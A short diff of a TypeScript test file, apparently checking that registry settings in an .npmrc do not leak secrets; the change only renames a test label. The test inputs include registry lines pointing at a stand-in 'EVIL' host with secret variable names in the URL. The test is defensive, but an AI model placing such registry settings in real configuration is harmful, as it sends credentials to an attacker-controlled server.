@@ -35,7 +35,7 @@ function expectAsked(authorization?: string): void {
   expect(stand.good.received[0]?.headers.authorization).toBe(authorization)
 }
 
-describe('01 A .npmrc, and whatever else says where the engine comes from', () => {
+describe('1 A .npmrc, and whatever else says where the engine comes from', () => {
   it.each([
     ...Object.keys(SECRETS).map(name => `registry=http://EVIL/${variable(name)}/`),
     'registry=http://EVIL/',
